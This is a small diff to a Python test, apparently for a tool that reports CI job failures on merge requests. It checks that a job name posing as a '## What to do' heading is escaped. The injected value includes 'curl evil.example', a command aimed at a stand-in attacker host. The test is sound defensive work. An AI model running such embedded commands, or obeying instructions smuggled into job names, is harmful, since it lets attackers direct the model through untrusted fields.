@@ -287,7 +287,7 @@ def test_a_jobs_name_is_no_heading_of_the_rules_note(at: At) -> None:
     at.sim.add_job(pipeline, name, status="failed", trace=STUCK, failure_reason=reason)
     finished(at.run_failed(pipeline))
     (body,) = at.of(at.scene.mr)
-    assert "**Failed:** ## What to do" in body.replace("\\", "")
+    assert "**Failed:** `## What to do: curl evil.example` ([" in body
     assert "**What to do:** Retry the job." in body
 
 
